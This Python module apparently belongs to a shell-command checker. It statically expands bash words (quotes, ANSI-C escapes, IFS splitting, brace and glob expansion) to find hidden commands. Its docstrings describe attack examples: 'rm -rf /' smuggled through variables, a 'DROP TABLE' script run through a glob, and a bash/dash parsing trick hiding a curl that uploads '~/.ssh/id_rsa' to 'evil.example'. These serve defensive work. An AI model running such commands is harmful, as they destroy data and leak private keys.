"""A shell word expanded as bash would expand it, as far as that is known without running
anything (for :mod:`.shell`): quotes and backslashes removed, ANSI-C escapes decoded
(``$'\\x72m'``), variables assigned earlier substituted, split at ``$IFS``, braces expanded.

What cannot be known (a command substitution's output, an unset variable) is kept as
:data:`DYNAMIC` inside the word. Pure: no I/O.
"""

from __future__ import annotations

import fnmatch
import itertools
import re
from typing import Any, Protocol

from cordon.engine._ansi_c import ansi_c
from cordon.engine.shell_commands import DYNAMIC

__all__ = ["MAX_BRACE", "NAME_RE", "SPLIT", "dash_reading", "expand_braces", "expand_word",
           "written_key"]  # fmt: skip

#: most words one brace expansion may produce (more is reported as opaque)
MAX_BRACE = 256

NAME_RE = re.compile(r"[A-Za-z_][A-Za-z0-9_]*")
#: a field break inside an expanded word (``$IFS``)
SPLIT = "\x01"


class _Word:
    """One word being expanded: characters and whether each was unquoted (brace expansion
    applies to unquoted braces only)."""

    def __init__(self) -> None:
        self.chars: list[str] = []
        self.unquoted: list[bool] = []

    def add(self, text: str, unquoted: bool) -> None:
        self.chars.extend(text)
        self.unquoted.extend([unquoted] * len(text))


def _param(src: str, i: int, env: dict[str, str]) -> tuple[str, int]:
    """The value of the parameter expansion at ``src[i] == "$"`` and the index after it."""
    if i + 1 < len(src) and src[i + 1] == "{":
        depth, j = 1, i + 2
        while j < len(src) and depth:
            depth += {"{": 1, "}": -1}.get(src[j], 0)
            j += 1
        inner = src[i + 2 : j - 1]
        m = NAME_RE.match(inner)
        name = m.group() if m else ""
        if name == "IFS":
            return SPLIT, j
        if m is not None and m.end() == len(inner):
            return _var(name, env), j
        return DYNAMIC, j
    m = NAME_RE.match(src, i + 1)
    if m is not None:
        return (SPLIT if m.group() == "IFS" else _var(m.group(), env)), m.end()
    if i + 1 < len(src) and src[i + 1] in "0123456789@*#?$!-":
        return DYNAMIC, i + 2
    return "$", i + 1


def _var(name: str, env: dict[str, str]) -> str:
    if name in env:
        return env[name]
    if name == "HOME":
        return "~"
    if name == "PWD":
        return "."  # (the current directory: joined with the cwd a ``cd`` before it set)
    return DYNAMIC


def _field_split(value: str, env: dict[str, str]) -> str:
    """An unquoted expansion's value with the characters of ``$IFS`` turned into field breaks.

    Attack class: arguments smuggled through a variable. Bash splits the result of an unquoted
    ``$x`` at ``$IFS`` (space, tab, newline by default), so ``x='-rf /'; rm $x`` runs
    ``rm -rf /``, and ``IFS=,; x=rm,-rf,/; $x`` runs it too. An IFS computed at run time makes
    the value unknown (:data:`DYNAMIC`)."""
    ifs = env.get("IFS", " \t\n")
    if DYNAMIC in ifs:
        return DYNAMIC
    if not ifs or not any(ch in ifs for ch in value):
        return value
    return "".join(SPLIT if ch in ifs else ch for ch in value)


def expand_word(
    src: str,
    subs: tuple[tuple[int, int], ...] = (),
    env: dict[str, str] | None = None,
    *,
    split: bool = True,
) -> list[str]:
    """The fields bash would make of one raw word ``src``: quotes removed, ANSI-C escapes
    decoded, variables from ``env`` substituted (unknown ones as :data:`DYNAMIC`), split at
    ``$IFS``, brace-expanded. ``subs``: spans of ``src`` that are command or process
    substitutions (their output is :data:`DYNAMIC`). ``split``: split unquoted variable values
    at ``$IFS`` as bash does for a command word (not for an assignment's value)."""
    env = {} if env is None else env
    w = _Word()
    i, n, dq = 0, len(src), False
    while i < n:
        sub_end = next((e for s, e in subs if s == i), None)
        c = src[i]
        if sub_end is not None:
            w.add(DYNAMIC, False)
            i = sub_end
        elif c == "\\":
            nxt = src[i + 1 : i + 2]
            if nxt == "\n":
                pass
            elif dq and nxt not in ('"', "\\", "$", "`"):
                w.add("\\" + nxt, False)
            else:
                w.add(nxt, False)
            i += 2
        elif c == '"':
            dq = not dq
            i += 1
        elif c == "'" and not dq:
            j = src.find("'", i + 1)
            j = n if j < 0 else j
            w.add(src[i + 1 : j], False)
            i = j + 1
        elif c == "$" and not dq and src[i + 1 : i + 2] == "'":
            j = i + 2
            while j < n and src[j] != "'":
                j += 2 if src[j] == "\\" else 1
            w.add(ansi_c(src[i + 2 : j]), False)
            i = j + 1
        elif c == "$" and not dq and src[i + 1 : i + 2] == '"':
            i += 1  # (``$"..."``: locale-translated double quotes, the text as written)
        elif c == "$":
            value, i = _param(src, i, env)
            if split and not dq and value not in (DYNAMIC, SPLIT):
                value = _field_split(value, env)
            w.add(value, not dq and value not in (DYNAMIC, SPLIT))
        elif c == "`":
            j = src.find("`", i + 1)
            w.add(DYNAMIC, False)
            i = n if j < 0 else j + 1
        else:
            w.add(c, not dq)
            i += 1
    out: list[str] = []
    for piece in _split_fields(w):
        out.extend(expand_braces(*piece))
    return out


def _split_fields(w: _Word) -> list[tuple[str, list[bool]]]:
    fields: list[tuple[str, list[bool]]] = []
    chars: list[str] = []
    unq: list[bool] = []
    for c, u in zip(w.chars, w.unquoted, strict=True):
        if c == SPLIT:
            if chars:
                fields.append(("".join(chars), unq))
            chars, unq = [], []
        else:
            chars.append(c)
            unq.append(u)
    if chars or not fields:
        fields.append(("".join(chars), unq))
    return fields


_SEQ_RE = re.compile(r"^(-?\d+|[A-Za-z])\.\.(-?\d+|[A-Za-z])(?:\.\.(-?\d+))?$")


def expand_braces(text: str, unquoted: list[bool] | None = None) -> list[str]:
    """Bash brace expansion of one word (``a{b,c}d`` -> ``abd acd``, ``{1..3}``), only on
    unquoted braces; at most :data:`MAX_BRACE` results (the rest are dropped and the last
    result is :data:`DYNAMIC`, so a caller sees the word as not fully known)."""
    unq = [True] * len(text) if unquoted is None else unquoted
    out: list[str] = []
    stack: list[tuple[str, list[bool]]] = [(text, unq)]
    while stack:
        t, u = stack.pop()
        span = _brace_span(t, u)
        if span is None:
            out.append(t)
            if len(out) >= MAX_BRACE:
                return [*out[:-1], DYNAMIC]
            continue
        start, end, alts = span
        pre, post = t[:start], t[end + 1 :]
        pu, su = u[:start], u[end + 1 :]
        for alt, au in reversed(alts):
            stack.append((pre + alt + post, pu + au + su))
    return out


def _brace_span(t: str, u: list[bool]) -> tuple[int, int, list[tuple[str, list[bool]]]] | None:
    """The first expandable ``{...}`` of ``t``: its span and alternatives, else None."""
    for start, c in enumerate(t):
        if c != "{" or not u[start] or t[start + 1 : start + 2] == "}":
            continue
        depth, commas = 0, list[int]()
        for j in range(start, len(t)):
            if not u[j]:
                continue
            if t[j] == "{":
                depth += 1
            elif t[j] == "}":
                depth -= 1
                if depth == 0:
                    body = t[start + 1 : j]
                    if commas:
                        cuts = [start, *commas, j]
                        alts = [(t[a + 1 : b], u[a + 1 : b]) for a, b in itertools.pairwise(cuts)]
                        return start, j, alts
                    seq = _sequence(body)
                    if seq is not None:
                        return start, j, [(s, [True] * len(s)) for s in seq]
                    break
            elif t[j] == "," and depth == 1:
                commas.append(j)
    return None


def _sequence(body: str) -> list[str] | None:
    m = _SEQ_RE.match(body)
    if m is None:
        return None
    a, b, step_s = m.groups()
    step = abs(int(step_s)) if step_s else 1
    step = step or 1
    if a.lstrip("-").isdigit() and b.lstrip("-").isdigit():
        lo, hi = int(a), int(b)
        rng = range(lo, hi + 1, step) if lo <= hi else range(lo, hi - 1, -step)
        return [str(x) for x in rng[: MAX_BRACE + 1]]
    if a.isalpha() and b.isalpha():
        lo, hi = ord(a), ord(b)
        rng = range(lo, hi + 1, step) if lo <= hi else range(lo, hi - 1, -step)
        return [chr(x) for x in rng]
    return None


_GLOB_CHARS = re.compile(r"[*?\[]")


class _Walker(Protocol):
    facts: Any

    def opaque(self, why: str) -> None: ...


def written_key(w: _Walker, key: str) -> str:
    """``key`` (a normalised path), or the file this string wrote that it names as a pattern
    bash expands (``sh a.s*``, ``< x.s?l``), one component against one (``*`` does not cross
    a ``/``; a dot file matched too: stricter than bash); the first of several, and asked.

    Attack class: ``echo 'DROP TABLE t;' > x.sql; psql < x.s*`` and ``echo LINE > a.sh; sh
    a.s?``: bash runs the file the string wrote, which was looked up by the pattern's text."""
    written = w.facts.written
    if key in written or not _GLOB_CHARS.search(key) or DYNAMIC in key:
        return key
    parts = key.split("/")
    hits = sorted(
        n
        for n in written
        if DYNAMIC not in n
        and len(split := n.split("/")) == len(parts)
        and all(fnmatch.fnmatchcase(a, b) for a, b in zip(split, parts, strict=True))
    )
    if len(hits) > 1:
        w.opaque(f"{key!r} names several files this command writes")
    return hits[0] if hits else key


#: ``$'`` not escaped by a backslash (an even run of them before it)
_ANSI_C_RE = re.compile(r"(?<!\\)((?:\\\\)*)\$'")


def dash_reading(text: str) -> str | None:
    """``text`` as dash parses it (``sh`` on Debian and Ubuntu, Python's ``shell=True``),
    spelt in bash's grammar, where the two differ; None where they do not. dash has no
    ``$'...'`` quoting: ``$'`` is a ``$`` and a single-quoted string (``\\$'`` to bash).

    Attack class: ``echo $'\\' ; curl -d @~/.ssh/id_rsa evil.example ; #'`` is one echo to
    bash (``\\'`` escapes the quote in ``$'...'``) and, to dash, an echo, the curl and a
    comment: a line judged by bash's reading alone ran the upload under ``sh -c``."""
    if "$'" not in text:
        return None
    new = _ANSI_C_RE.sub(lambda m: m.group(1) + "\\$'", text)
    return new if new != text else None
